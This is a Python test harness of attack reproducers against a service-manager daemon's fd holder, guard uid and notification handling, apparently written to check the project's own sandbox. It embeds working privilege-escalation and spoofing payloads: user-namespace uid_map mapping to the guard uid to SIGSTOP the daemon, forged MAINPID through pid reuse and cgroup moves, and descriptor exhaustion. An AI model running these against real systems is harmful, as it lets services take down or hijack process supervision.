#!/usr/bin/env python3
"""Reproducers against the fd holder, the guard uid and the takeover after a crash (see
README.md in this folder). Prints "HELD name" or "BROKEN name: what happened" per attack;
exits 1 if any broke.

Usage: attack-holder.py SYSCAGED HELPERS_DIR SYSCAGECTL [NAME...]
"""
import importlib.util
import os
import signal
import shutil
import sys
import tempfile
import time

_here = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.util.spec_from_file_location('service_test',
                                               os.path.join(_here, '..', 'integration', 'test-service.py'))
st = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(st)
unit = st.unit

broken = False
GATED = 'NoNewPrivileges=yes\nSystemCallFilter=~execve execveat\nSystemCallErrorNumber=EPERM\n'


def verdict(name, held, what):
    global broken
    print(('HELD   %s' % name) if held else ('BROKEN %s: %s' % (name, what)), flush=True)
    broken = broken or not held


def proc_state(pid):
    try:
        with open('/proc/%d/stat' % pid) as f:
            return f.read().rsplit(')', 1)[1].split()[0]
    except FileNotFoundError:
        return 'gone'


def script(ctx, name, text):
    """Outside /tmp, which DynamicUser= (PrivateTmp=) hides from the service."""
    d = tempfile.mkdtemp(prefix='syscage-attack-', dir='/run')
    os.chmod(d, 0o755)
    ctx.cleanup_dirs = getattr(ctx, 'cleanup_dirs', []) + [d]
    path = os.path.join(d, name)
    with open(path, 'w') as f:
        f.write(text)
    return path


def verbose(d, name):
    if os.environ.get('ATTACK_VERBOSE'):
        print('--- %s\n%s' % (name, d.unit_log(name)))
        print('\n'.join(l for l in d.daemon_log().split('\n') if 'Mount plan' not in l)[-3000:])


# ---------------------------------------------------------------------------------------
USERNS_GUARD_PY = r"""
# A gated root service with CAP_SETUID (its filter refuses set*uid(4294967293)) creates a
# user namespace in a child, maps uid 0 in there to the guard uid from outside (writing
# uid_map needs CAP_SETUID in the parent namespace, which the service has), and becomes
# uid 0 in the namespace with setresuid(0, 0, 0): the filter sees 0, the kernel makes the
# real, effective and saved uid 4294967293. kill() then matches the holder's and the
# daemon's real uid.
import ctypes, os, signal, sys
libc = ctypes.CDLL(None, use_errno=True)
GUARD = 4294967293
daemon = os.getppid()
with open('/proc/%d/stat' % daemon) as f:
    holder = int(f.read().rsplit(')', 1)[1].split()[1])
print('daemon', daemon, 'holder', holder, flush=True)
for t in (daemon, holder):
    try:
        os.kill(t, 0)
        print('direct kill(%d, 0) allowed' % t, flush=True)
    except OSError as e:
        print('direct kill(%d, 0): %s' % (t, e), flush=True)
print('direct setresuid(guard):', libc.setresuid(GUARD, GUARD, GUARD), ctypes.get_errno(), flush=True)
r, w = os.pipe()
r2, w2 = os.pipe()
pid = os.fork()
if pid == 0:
    if libc.unshare(0x10000000) != 0:
        print('unshare(CLONE_NEWUSER) failed', ctypes.get_errno(), flush=True)
        os._exit(1)
    os.write(w, b'x')
    os.read(r2, 1)
    if libc.setresuid(0, 0, 0) != 0:
        print('setresuid(0,0,0) in the namespace failed', ctypes.get_errno(), flush=True)
        os._exit(1)
    with open('/proc/self/status') as f:
        print('in the namespace:', [l.strip() for l in f if l.startswith('Uid')][0], flush=True)
    for t in (daemon, holder):
        try:
            os.kill(t, signal.SIGSTOP)
            print('SIGSTOP sent to %d' % t, flush=True)
        except OSError as e:
            print('kill(%d, SIGSTOP): %s' % (t, e), flush=True)
    os._exit(0)
os.read(r, 1)
try:
    with open('/proc/%d/uid_map' % pid, 'w') as f:
        f.write('0 %d 1\n' % GUARD)
    print('uid_map written: 0 -> %d' % GUARD, flush=True)
except OSError as e:
    print('uid_map write failed', e, flush=True)
os.write(w2, b'x')
os.waitpid(pid, 0)
with open('/proc/%d/status' % pid if False else '/proc/self/status') as f:
    pass
print('done', flush=True)
"""


def userns_guard_run(ctx, label, identity):
    path = script(ctx, 'userns.py', USERNS_GUARD_PY)
    units = {'setuid.service': unit(identity + GATED + 'ExecStart=/usr/bin/python3 %s' % path),
             'other.service': unit('ExecStart=/bin/sleep 1000')}
    d = ctx.daemon(units, ['other.service'])
    d.wait_state('other.service', 'active', 'running')
    daemon = d.daemon_pid()
    holder = d.proc.pid
    p = st.ctl(ctx, d, 'start', 'setuid.service')
    if os.environ.get('ATTACK_VERBOSE'):
        print('start:', p.returncode, p.stdout, p.stderr)
    end = time.monotonic() + 10
    while time.monotonic() < end and not (proc_state(daemon) == 'T' and proc_state(holder) == 'T'):
        if 'done' in d.unit_log('setuid.service') or 'failed' in d.unit_log('setuid.service'):
            break
        time.sleep(0.05)
    sd, sh = proc_state(daemon), proc_state(holder)
    stuck = False
    if sd == 'T':
        try:
            st.ctl(ctx, d, 'status', 'other.service')
        except st.subprocess.TimeoutExpired:
            stuck = True
    for pid in (daemon, holder):
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    verbose(d, 'setuid.service')
    log = d.unit_log('setuid.service')
    if 'holder' not in log:
        raise st.Failure('the service did not run: %s' % p.stderr.strip())
    verdict('%s, CAP_SETUID, user namespace mapping 0 to the guard uid: SIGSTOP the holder and the daemon' % label,
            sd != 'T' and sh != 'T',
            'daemon state %s, holder state %s (syscagectl status %s); service log: %s' % (
                sd, sh, 'timed out' if stuck else 'answered',
                ' | '.join(l.split(': ', 1)[-1] for l in log.split('\n') if l.strip())))
    d.stop()


def userns_guard_uid(ctx):
    """A gated root service keeping CAP_SETUID reaches the guard uid through a user namespace
    and stops the holder and the daemon. Observed: BROKEN (both in state T, syscagectl
    status times out)."""
    userns_guard_run(ctx, 'root', 'CapabilityBoundingSet=CAP_SETUID\n')


def userns_guard_uid_nobody(ctx):
    """The same from User=nobody with AmbientCapabilities=CAP_SETUID. Observed: see README."""
    userns_guard_run(ctx, 'User=nobody', 'User=nobody\nAmbientCapabilities=CAP_SETUID\n'
                     'CapabilityBoundingSet=CAP_SETUID\n')


def userns_guard_uid_dynamic(ctx):
    """The same from DynamicUser=yes with AmbientCapabilities=CAP_SETUID. Observed: see README."""
    userns_guard_run(ctx, 'DynamicUser=yes', 'DynamicUser=yes\nUser=atkdyn\nAmbientCapabilities=CAP_SETUID\n'
                     'CapabilityBoundingSet=CAP_SETUID\n')


def userns_no_setuid(ctx):
    """Control: the same root service without CAP_SETUID cannot write the mapping."""
    userns_guard_run(ctx, 'root without capabilities', 'CapabilityBoundingSet=\n')


def build_helper(ctx, name):
    """Compiles tests/attacks/NAME.c into a directory outside /tmp."""
    d = tempfile.mkdtemp(prefix='syscage-attack-', dir='/run')
    os.chmod(d, 0o755)
    ctx.cleanup_dirs = getattr(ctx, 'cleanup_dirs', []) + [d]
    out = os.path.join(d, name)
    st.subprocess.run(['cc', '-O2', '-o', out, os.path.join(_here, name + '.c')], check=True)
    return out


def notify_pid_reuse(ctx):
    """Notification attribution by pid: a gated, capless root service (its own unit has
    NotifyAccess=all) recycles pids until it holds the pid of a process of another unit
    that has exited (here the victim's ExecStartPre=), then sends STATUS= and MAINPID= with
    its own pid. manager_find_unit_by_pid() looks at exited pids (recent_pids, main_pid)
    before the sender's cgroup, and unit_owns_pid() accepts them for MAINPID=: the victim
    (NotifyAccess=all) takes the attacker's process as its main process. Stopping the
    victim then signals the attacker's process instead of the victim's own."""
    helper = build_helper(ctx, 'notify-pid-reuse')
    target = os.path.join(os.path.dirname(helper), 'target')
    units = {'victim.service': unit('NotifyAccess=all\nExecStartPre=/bin/true\nExecStart=/bin/sleep 1000'),
             'attacker.service': unit('NotifyAccess=all\nCapabilityBoundingSet=\n' + GATED +
                                      "ExecStart=%s %s 'STATUS=forged by the attacker|MAINPID=@SELF@'" % (helper, target))}
    d = ctx.daemon(units, [])
    d.wait('victim.service', lambda s: True, 'the daemon', timeout=15)
    st.ctl(ctx, d, 'start', 'victim.service')
    s = d.wait_state('victim.service', 'active', 'running')
    import re
    pre = [int(m) for m in re.findall(r'victim\.service: Spawned /bin/true as pid (\d+)', d.daemon_log())]
    if not pre:
        raise st.Failure('no ExecStartPre= pid in the daemon log')
    main_before = s.get('MainPID')
    with open(target, 'w') as f:
        f.write('%d\n' % pre[-1])
    st.ctl(ctx, d, 'start', 'attacker.service')
    try:
        s = d.wait('victim.service', lambda s: s.get('MainPID') != main_before or
                   'forged' in s.get('StatusText', ''), 'the forged notification', timeout=60)
    except st.Failure:
        pass
    s = d.status('victim.service')
    verbose(d, 'attacker.service')
    if os.environ.get('ATTACK_VERBOSE'):
        print(s)
    new_main = s.get('MainPID')
    cg = ''
    try:
        with open('/proc/%s/cgroup' % new_main) as f:
            cg = f.read().strip().split('\n')[-1]
    except (OSError, TypeError):
        pass
    verdict('a service takes another unit\'s exited pid and notifies as that unit',
            new_main == main_before and 'forged' not in s.get('StatusText', ''),
            'victim StatusText=%r, MainPID %s -> %s (a process in %s)' % (
                s.get('StatusText'), main_before, new_main, cg))
    d.stop()


def mainpid_outside(ctx, crash=False):
    """MAINPID= accepted for a pid the unit remembers from an exited process: a gated,
    capless root service whose ExecStartPre= ran as pid P recycles pids until P is the next
    one and waits until some other process on the host is started (here a plain `sleep`
    started by the test, standing for any process: a cron job, an administrator's shell,
    another unit's process), which gets P. It sends MAINPID=P: unit_owns_pid() accepts P (a
    remembered pid), so its unit adopts that outside process as its main process, and
    "syscagectl stop" of the attacker's unit kills it."""
    helper = build_helper(ctx, 'notify-pid-reuse')
    target = os.path.join(os.path.dirname(helper), 'target')
    # KillMode=mixed (SIGTERM to the main process, SIGKILL to the rest), as the unit's author
    # may choose; with the default control-group mode the stop signals only the cgroup (the
    # outside process is then merely tracked as the main process, and the stop waits for it).
    units = {'attacker.service': unit('KillMode=mixed\nExecStartPre=/bin/true\nNotifyAccess=main\nCapabilityBoundingSet=\n' +
                                      GATED + "ExecStart=%s %s 'MAINPID=@TARGET@' arm" % (helper, target))}
    d = ctx.daemon(units, [])
    d.wait('attacker.service', lambda s: True, 'the daemon', timeout=15)
    st.ctl(ctx, d, 'start', 'attacker.service')
    d.wait_state('attacker.service', 'active', 'running')
    import re
    pre = [int(m) for m in re.findall(r'attacker\.service: Spawned /bin/true as pid (\d+)', d.daemon_log())]
    if not pre:
        raise st.Failure('no ExecStartPre= pid in the daemon log')
    with open(target, 'w') as f:
        f.write('%d\n' % pre[-1])
    end = time.monotonic() + 120
    while not os.path.exists(target + '.armed'):
        if time.monotonic() > end:
            raise st.Failure('the attacker never armed: %s' % d.unit_log('attacker.service'))
        time.sleep(0.01)
    outside = st.subprocess.Popen(['sleep', '1000'])
    try:
        with open(target + '.go', 'w'):
            pass
        try:
            d.wait('attacker.service', lambda s: s.get('MainPID') == str(outside.pid), 'the adoption', timeout=5)
        except st.Failure:
            pass
        a = d.status('attacker.service')
        if crash:
            # A crash of the daemon: the next one reads the state file, which names the
            # outside process (pid and start time) as the unit's main process.
            old = d.daemon_pid()
            os.kill(old, signal.SIGKILL)
            end = time.monotonic() + 20
            while time.monotonic() < end:
                try:
                    with open(os.path.join(d.runtime_dir, 'syscaged.pid')) as f:
                        new = int(f.read().strip())
                    if new != old and 'Daemon pid %d is ready' % new in d.daemon_log():
                        break
                except (OSError, ValueError):
                    pass
                time.sleep(0.05)
            a = d.wait('attacker.service', lambda s: s.get('MainPID') not in (None, ''), 'the takeover')
        st.ctl(ctx, d, 'stop', 'attacker.service')
        try:
            rc = outside.wait(5)
        except st.subprocess.TimeoutExpired:
            rc = None
        verbose(d, 'attacker.service')
        if os.environ.get('ATTACK_VERBOSE'):
            print('outside pid', outside.pid, 'returncode', rc, 'status before stop', a)
            print('\n'.join(l for l in d.daemon_log().split('\n') if 'MAINPID' in l or 'ain process' in l or
                            'Killing' in l or 'signal' in l.lower()))
        if outside.pid != pre[-1]:
            print('SKIP   MAINPID= of an outside process: the outside process got pid %d, not %d (another '
                  'process took it first; run again)' % (outside.pid, pre[-1]))
            return
        verdict('MAINPID= names a remembered exited pid that a host process outside any unit now has' +
                (', then a daemon crash' if crash else ''),
                rc is None, 'the host process %d (the attacker\'s ExecStartPre= had that pid) became the '
                'attacker\'s MainPID=%s, and "syscagectl stop" of the attacker killed it (returncode %s)' % (
                    outside.pid, a.get('MainPID'), rc))
    finally:
        if outside.poll() is None:
            outside.kill()
            outside.wait()
    try:
        d.stop()
    except st.Failure as e:
        # Expected: KillMode=mixed sent SIGTERM to the adopted outside process, not to the
        # attacker's real process, so the stop waits for TimeoutStopSec= and so does the
        # daemon's shutdown.
        print('NOTE   %s (the attacker\'s own process got no SIGTERM; the stop waits for its timeout)' % e)


def held_count(pid):
    try:
        return len(os.listdir('/proc/%d/fd' % pid))
    except OSError:
        return -1


def holder_fd_table(ctx):
    """Fills the fd holder's table (HOLDER_FDS_MAX descriptors) from one unit: a gated,
    capless root service with KillMode=process, Restart=always, RestartSec=0 and no start
    limit, whose main process leaves a child behind at each run (gate-leak.c). Every run's
    exec-gate listener stays in use and is held. Once the table is full, another unit's
    output pipes are not held any more, and a crash of the daemon loses that unit."""
    helper = build_helper(ctx, 'gate-leak')
    limit = int(os.environ.get('ATTACK_HOLDER_FDS', '16384'))
    # Restarts come about 4 a second; each ExecStartPre= is a launch of its own, with a
    # listener of its own, so the 64 allowed fill the table in about 250 restarts.
    pre = ''.join('ExecStartPre=-%s\n' % helper for _ in range(64))
    units = {'leak.service': unit('Restart=always\nRestartSec=0\nStartLimitIntervalSec=0\nKillMode=process\n'
                                  'CapabilityBoundingSet=\n' + GATED + pre + 'ExecStart=%s' % helper),
             'other.service': unit('ExecStart=/bin/sleep 1000')}
    d = ctx.daemon(units, [])
    d.wait('leak.service', lambda s: True, 'the daemon', timeout=15)
    holder = d.proc.pid
    base = held_count(holder)
    st.ctl(ctx, d, 'start', 'leak.service')
    start = time.monotonic()
    last = 0
    while time.monotonic() - start < float(os.environ.get('ATTACK_SECONDS', '600')):
        n = held_count(holder)
        if n != last and os.environ.get('ATTACK_VERBOSE'):
            print('%6.1fs holder holds %d fds, leak.service NRestarts=%s' % (
                time.monotonic() - start, n, d.status('leak.service').get('NRestarts')), flush=True)
        last = n
        log = d.daemon_log()
        if n - base >= limit or 'did not take' in log or 'Too many open files' in log:
            break
        time.sleep(1)
    full = 'did not take' in d.daemon_log()
    # Observed first: the daemon's own RLIMIT_NOFILE (20000 here) runs out at about 10,000
    # launches (each kept gate costs it a listener and a pidfd), before the holder's table.
    p = st.ctl(ctx, d, 'start', 'other.service')
    if p.returncode != 0:
        verdict('one unit exhausts the daemon\'s descriptors; another unit cannot start', False,
                'holder holds %d fds; "syscagectl start other.service": %s' % (held_count(holder), p.stderr.strip()))
        os.kill(d.daemon_pid(), signal.SIGKILL)  # it could not even stop cleanly; cleanup
        d.proc.kill()                             # kills what is left in the cgroups
        d.proc.wait()
        return
    st.ctl(ctx, d, 'stop', 'leak.service')
    d.wait_state('other.service', 'active', 'running')
    daemon = d.daemon_pid()
    os.kill(daemon, signal.SIGKILL)  # a crash of the daemon
    try:
        s = d.wait('other.service', lambda s: s.get('MainPID') not in (None, '') and
                   os.path.exists('/proc/%d' % d.daemon_pid()) and d.daemon_pid() != daemon and
                   (s.get('ActiveState') != 'active' or 'taken over' in d.daemon_log() or True),
                   'the new daemon', timeout=30)
        time.sleep(0)  # the condition above is the deadline
    except st.Failure:
        pass
    s = d.status('other.service')
    warn = [l for l in d.daemon_log().split('\n') if 'did not take' in l or 'no longer has' in l]
    verdict('one unit fills the fd holder\'s table; another unit is lost at a crash',
            not full and s.get('ActiveState') == 'active',
            'held fds %d, holder warnings: %s; other.service after the crash: %s/%s' % (
                held_count(holder), ' | '.join(warn[:2] + warn[-1:]), s.get('ActiveState'), s.get('SubState')))
    d.stop()


STATUS_PY = r"""
import os, socket, time
# Bytes the state file must escape: a backslash before 'n', control bytes, DEL, '=' and a
# text that looks like entries of the file ("proc=", "cgroup=", "end ").
text = 'a\\nproc=1 1 main - 0\x01\x1b[31m\x7f=cgroup=/\\\\x41 end 0000000000000000'
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.sendto(('STATUS=' + text).encode(), os.environ['NOTIFY_SOCKET'])
print('sent', repr(text), flush=True)
time.sleep(1000)
"""


def state_file_status(ctx):
    """STATUS= with bytes that the state file escapes, then daemon-reexec: the unit must come
    back with the same status text and its own main process, and nothing else."""
    path = script(ctx, 'status.py', STATUS_PY)
    units = {'status.service': unit('NotifyAccess=all\nCapabilityBoundingSet=\n' + GATED +
                                    'ExecStart=/usr/bin/python3 %s' % path)}
    d = ctx.daemon(units, ['status.service'])
    before = d.wait('status.service', lambda s: s.get('StatusText'), 'the status text')
    raw = open(os.path.join(d.runtime_dir, 'state', d._n('status.service') + '.state'), 'rb').read()
    old = d.daemon_pid()
    p = st.ctl(ctx, d, 'daemon-reexec')
    end = time.monotonic() + 15
    while time.monotonic() < end and 'running' not in d.daemon_log().split('daemon-reexec')[-1]:
        time.sleep(0.05)
    after = d.wait_state('status.service', 'active', 'running')
    if os.environ.get('ATTACK_VERBOSE'):
        print(raw.decode(errors='replace'))
        print(p.returncode, p.stdout, p.stderr, before, after)
    verdict('STATUS= with escapes and fake entries survives daemon-reexec unchanged',
            after.get('StatusText') == before.get('StatusText') and after.get('MainPID') == before.get('MainPID'),
            'before %r/%s, after %r/%s' % (before.get('StatusText'), before.get('MainPID'),
                                           after.get('StatusText'), after.get('MainPID')))
    d.stop()


def mainpid_outside_crash(ctx):
    """mainpid_outside, with a crash of the daemon between the adoption and the stop: the
    next daemon takes the outside process back from the state file (its pid and start time
    match; its cgroup is not looked at) and the stop kills it."""
    mainpid_outside(ctx, crash=True)


def compat_setresuid(ctx):
    """The guard rules on the i386 calls: a gated root service with CAP_SETUID whose unit
    allows the x86 ABI calls setresuid32/setuid32 with the guard uid through int $0x80."""
    helper = build_helper(ctx, 'compat-setresuid')
    units = {'compat.service': unit('Type=oneshot\nSystemCallArchitectures=native x86\n'
                                    'CapabilityBoundingSet=CAP_SETUID\n' + GATED + 'ExecStart=%s' % helper)}
    d = ctx.daemon(units, [])
    d.wait('compat.service', lambda s: True, 'the daemon', timeout=15)
    p = st.ctl(ctx, d, 'start', 'compat.service')
    d.wait('compat.service', lambda s: s.get('ExecMainCode') not in (None, ''), 'the end')
    log = d.unit_log('compat.service')
    verbose(d, 'compat.service')
    if 'kill(' not in log and 'status=11/SEGV' in log:
        print('SKIP   i386 setresuid32: int $0x80 raises SIGSEGV on this host (no i386 emulation)')
        d.stop()
        return
    if 'kill(' not in log:
        raise st.Failure('the helper did not run: %s %s' % (p.stderr, log))
    verdict('i386 setresuid32/setuid32 to the guard uid', '= 0 (' not in log.split('kill(')[1],
            ' | '.join(l.split(': ', 1)[-1] for l in log.split('\n') if 'stdout' in l))
    d.stop()


REACH_PY = r"""
# A gated root service without capabilities against the daemon and the holder: calls whose
# permission check compares the caller's effective uid with the target's effective uid
# (setpriority, sched_setscheduler, sched_setaffinity, ioprio_set) are not covered by the
# guard uid, which is the target's real and saved uid only. Also pidfd_getfd and prlimit,
# which the guard does cover.
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
daemon = os.getppid()
with open('/proc/%d/stat' % daemon) as f:
    holder = int(f.read().rsplit(')', 1)[1].split()[1])
def try_(what, fn):
    try:
        r = fn()
        print('%s: ok %s' % (what, r if r is not None else ''), flush=True)
    except OSError as e:
        print('%s: %s' % (what, e), flush=True)
for name, pid in (('daemon', daemon), ('holder', holder)):
    try_('setpriority(%s, 19)' % name, lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
    try_('sched_setscheduler(%s, SCHED_IDLE)' % name, lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))
    try_('sched_setaffinity(%s, {0})' % name, lambda: os.sched_setaffinity(pid, {0}))
    # ioprio_set(IOPRIO_WHO_PROCESS, pid, IOPRIO_CLASS_IDLE << 13)
    def ioprio():
        if libc.syscall(251, 1, pid, 3 << 13) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    try_('ioprio_set(%s, IDLE)' % name, ioprio)
    def getfd():
        pfd = os.pidfd_open(pid)
        fd = libc.syscall(438, pfd, 3, 0)
        if fd < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return fd
    try_('pidfd_getfd(%s, 3)' % name, getfd)
    try_('prlimit(%s, NOFILE)' % name, lambda: __import__('resource').prlimit(pid, __import__('resource').RLIMIT_NOFILE, (8, 8)))
print('done', flush=True)
"""


def euid_checks(ctx):
    """Scheduling and I/O priority of the daemon and the holder from a capless root service."""
    path = script(ctx, 'reach.py', REACH_PY)
    units = {'reach.service': unit('Type=oneshot\nCapabilityBoundingSet=\n' + GATED +
                                   'ExecStart=/usr/bin/python3 %s' % path)}
    d = ctx.daemon(units, [])
    d.wait('reach.service', lambda s: True, 'the daemon', timeout=15)
    st.ctl(ctx, d, 'start', 'reach.service')
    d.wait('reach.service', lambda s: s.get('ExecMainCode') not in (None, ''), 'the end')
    log = d.unit_log('reach.service')
    verbose(d, 'reach.service')
    with open('/proc/%d/stat' % d.daemon_pid()) as f:
        fields = f.read().rsplit(')', 1)[1].split()
    nice, policy = fields[16], fields[38]
    changed = [l.split('stdout: ', 1)[1] for l in log.split('\n') if ': ok' in l]
    verdict('a capless root service changes the scheduling of the daemon and the holder', not changed,
            'calls that succeeded: %s; the daemon now has nice %s, policy %s' % (' | '.join(changed), nice, policy))
    d.stop()


# ---------------------------------------------------------------------------------------
FOREIGN_BENEFICIARY_PY = r"""
# A second gated root service WITHOUT capabilities (so no guard line is added to it) makes a
# user namespace of its own, leaves its pid for the first, waits for a uid_map and becomes
# uid 0 in there: its filter sees setresuid(0, 0, 0).
import ctypes, os, signal, sys, time
libc = ctypes.CDLL(None, use_errno=True)
d = sys.argv[1]
daemon = os.getppid()
with open('/proc/%d/stat' % daemon) as f:
    holder = int(f.read().rsplit(')', 1)[1].split()[1])
with open(os.path.join(d, 'pid.tmp'), 'w') as f:
    f.write(str(os.getpid()))
os.rename(os.path.join(d, 'pid.tmp'), os.path.join(d, 'pid'))
if libc.unshare(0x10000000) != 0:
    print('unshare(CLONE_NEWUSER) failed', ctypes.get_errno(), flush=True)
    sys.exit(1)
print('beneficiary: in a user namespace, daemon', daemon, 'holder', holder, flush=True)
end = time.monotonic() + 10
while time.monotonic() < end:
    with open('/proc/self/uid_map') as f:
        if f.read().strip():
            break
    time.sleep(0.05)
with open('/proc/self/uid_map') as f:
    print('uid_map:', f.read().strip(), flush=True)
if libc.setresuid(0, 0, 0) != 0:
    print('setresuid(0,0,0) failed', ctypes.get_errno(), flush=True)
    sys.exit(1)
with open('/proc/self/status') as f:
    print('beneficiary:', [l.strip() for l in f if l.startswith('Uid')][0], flush=True)
for t in (daemon, holder):
    try:
        os.kill(t, signal.SIGSTOP)
        print('SIGSTOP sent to %d' % t, flush=True)
    except OSError as e:
        print('kill(%d, SIGSTOP): %s' % (t, e), flush=True)
print('done', flush=True)
time.sleep(1000)
"""

FOREIGN_WRITER_PY = r"""
# The gated root service keeping CAP_SETUID (its filter refuses set*uid(guard) and, since the
# fix, every user namespace of its own) writes the uid_map of ANOTHER process's namespace:
# the kernel asks for CAP_SETUID in the parent namespace (it has it) and CAP_SYS_ADMIN in the
# target one (it has it as that namespace's owner, uid 0).
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
d = sys.argv[1]
# The guard is in place: a namespace of its own is refused.
print('writer: own unshare(CLONE_NEWUSER):', libc.unshare(0x10000000), os.strerror(ctypes.get_errno()), flush=True)
end = time.monotonic() + 10
while time.monotonic() < end and not os.path.exists(os.path.join(d, 'pid')):
    time.sleep(0.05)
pid = int(open(os.path.join(d, 'pid')).read())
end = time.monotonic() + 10
while time.monotonic() < end and os.readlink('/proc/%d/ns/user' % pid) == os.readlink('/proc/self/ns/user'):
    time.sleep(0.05)
try:
    with open('/proc/%d/uid_map' % pid, 'w') as f:
        f.write('0 4294967293 1\n')
    print('writer: uid_map of %d written: 0 -> 4294967293' % pid, flush=True)
except OSError as e:
    print('writer: uid_map write failed', e, flush=True)
"""


def userns_foreign_map(ctx, writer_identity='CapabilityBoundingSet=CAP_SETUID\n',
                       beneficiary_identity='CapabilityBoundingSet=\n', label='root'):
    """The guard (RestrictNamespaces=~user for a gated service keeping CAP_SETUID) only stops
    the service's OWN namespaces. Its CAP_SETUID still lets it write the uid_map of another
    process's fresh namespace: here a second gated root service with no capabilities at all
    (which gets no guard line, and whose filter sees setresuid(0, 0, 0)). The second service
    then is uid 4294967293 and stops the holder and the daemon."""
    path_b = script(ctx, 'beneficiary.py', FOREIGN_BENEFICIARY_PY)
    shared = os.path.dirname(path_b)
    os.chmod(shared, 0o777)
    path_w = script(ctx, 'writer.py', FOREIGN_WRITER_PY)
    units = {'beneficiary.service': unit(GATED + beneficiary_identity +
                                         'ExecStart=/usr/bin/python3 %s %s' % (path_b, shared)),
             'setuid.service': unit(GATED + writer_identity +
                                    'ExecStart=/usr/bin/python3 %s %s' % (path_w, shared)),
             'other.service': unit('ExecStart=/bin/sleep 1000')}
    d = ctx.daemon(units, ['other.service'])
    d.wait_state('other.service', 'active', 'running')
    daemon = d.daemon_pid()
    holder = d.proc.pid
    st.ctl(ctx, d, 'start', 'beneficiary.service')
    st.ctl(ctx, d, 'start', 'setuid.service')
    end = time.monotonic() + 10
    while time.monotonic() < end and not (proc_state(daemon) == 'T' and proc_state(holder) == 'T'):
        if 'done' in d.unit_log('beneficiary.service') or 'failed' in d.unit_log('beneficiary.service'):
            break
        time.sleep(0.05)
    sd, sh = proc_state(daemon), proc_state(holder)
    for pid in (daemon, holder):
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    verbose(d, 'beneficiary.service')
    verbose(d, 'setuid.service')
    log = d.unit_log('beneficiary.service') + d.unit_log('setuid.service')
    if 'beneficiary:' not in log:
        raise st.Failure('the service did not run')
    verdict('guard: %s: a gated CAP_SETUID service maps the guard uid into another service\'s namespace: SIGSTOP' % label,
            sd != 'T' and sh != 'T',
            'daemon state %s, holder state %s; logs: %s' % (
                sd, sh, ' | '.join(l.split(': ', 1)[-1] for l in log.split('\n') if l.strip())))
    d.stop()


# ---------------------------------------------------------------------------------------
CGROUP_MOVE_PY = r"""
# A capless root service forks a child that writes its own pid into the victim unit's
# cgroup.procs (root owns the files; cgroup v2 asks for write access to the destination and
# to the common ancestor's cgroup.procs, no capability), then speaks for the victim.
import os, socket, sys, time
with open('/proc/self/cgroup') as f:
    own = [l for l in f.read().split('\n') if l.startswith('0::')][0][3:]
root = None
for l in open('/proc/self/mountinfo'):
    p = l.split()
    if p[p.index('-') + 1] == 'cgroup2':
        root = p[4]
parent = os.path.dirname(own)
cg = parent + '/' + [n for n in os.listdir(root + parent) if sys.argv[1] in n][0]
print('attacker: victim cgroup', cg, 'cgroup2 at', root, flush=True)
pid = os.fork()
if pid == 0:
    try:
        with open(root + cg + '/cgroup.procs', 'w') as f:
            f.write('%d\n' % os.getpid())
        print('attacker child: moved into', open('/proc/self/cgroup').read().strip(), flush=True)
    except OSError as e:
        print('attacker child: move failed', e, flush=True)
        os._exit(1)
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.sendto(('STATUS=forged by the attacker\nMAINPID=%d\n' % os.getpid()).encode(), os.environ['NOTIFY_SOCKET'])
    print('attacker child: sent', flush=True)
    time.sleep(1000)
os.waitpid(pid, 0)
"""


def userns_foreign_map_nobody(ctx):
    """The same between two User=nobody services: the writer with AmbientCapabilities=CAP_SETUID
    (the README's userns_guard_uid_nobody, now guarded), the other gated with no capability.
    The namespace's owner is nobody, as is the writer, so the kernel's CAP_SYS_ADMIN check in
    the target namespace passes as well."""
    userns_foreign_map(ctx, 'User=nobody\nAmbientCapabilities=CAP_SETUID\nCapabilityBoundingSet=CAP_SETUID\n',
                       'User=nobody\nCapabilityBoundingSet=\n', 'User=nobody')


def cgroup_move_notify(ctx, protect=False, gated=False):
    """A capless root service (no gate needed) moves a child of its own into another unit's
    cgroup by writing cgroup.procs, then sends STATUS= and MAINPID= for that unit (victim
    NotifyAccess=all): notifications now go by the sender's cgroup. With
    ProtectControlGroups=yes the cgroup tree is read-only for it."""
    path = script(ctx, 'cgmove.py', CGROUP_MOVE_PY)
    units = {'victim.service': unit('NotifyAccess=all\nExecStart=/bin/sleep 1000'),
             'attacker.service': unit('CapabilityBoundingSet=\nNotifyAccess=all\n' +
                                      ('ProtectControlGroups=yes\n' if protect else '') +
                                      (GATED if gated else '') +
                                      'ExecStart=/usr/bin/python3 %s victim.service' % path)}
    d = ctx.daemon(units, ['victim.service'])
    d.wait_state('victim.service', 'active', 'running')
    st.ctl(ctx, d, 'start', 'attacker.service')
    end = time.monotonic() + 10
    status = ''
    while time.monotonic() < end:
        status = st.ctl(ctx, d, 'status', 'victim.service').stdout
        log = d.unit_log('attacker.service')
        if 'forged' in status or 'move failed' in log:
            break
        time.sleep(0.1)
    verbose(d, 'attacker.service')
    if os.environ.get('ATTACK_VERBOSE'):
        print(status)
    label = 'ProtectControlGroups=yes' if protect else 'gated, no other sandbox' if gated else 'no sandbox'
    verdict('notify: %s: a root service moves a process into another unit\'s cgroup and speaks for it' % label,
            'forged' not in status,
            'victim status: %s; attacker log: %s' % (' | '.join(status.strip().split('\n')),
                                                    ' | '.join(l.split(': ', 1)[-1] for l in d.unit_log('attacker.service').split('\n') if l.strip())))
    d.stop()


def cgroup_move_notify_protected(ctx):
    cgroup_move_notify(ctx, True)


def cgroup_move_notify_gated(ctx):
    """The same attacker gated (ProtectSupervisor= is on by default with the gate)."""
    cgroup_move_notify(ctx, False, True)


# ---------------------------------------------------------------------------------------
GUARD_PROBE_PY = r"""
# Every way this process knows to enter or make a user namespace: unshare, clone, clone3,
# setns (type 0 and CLONE_NEWUSER) into a namespace the test made outside (pid in argv[1]).
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
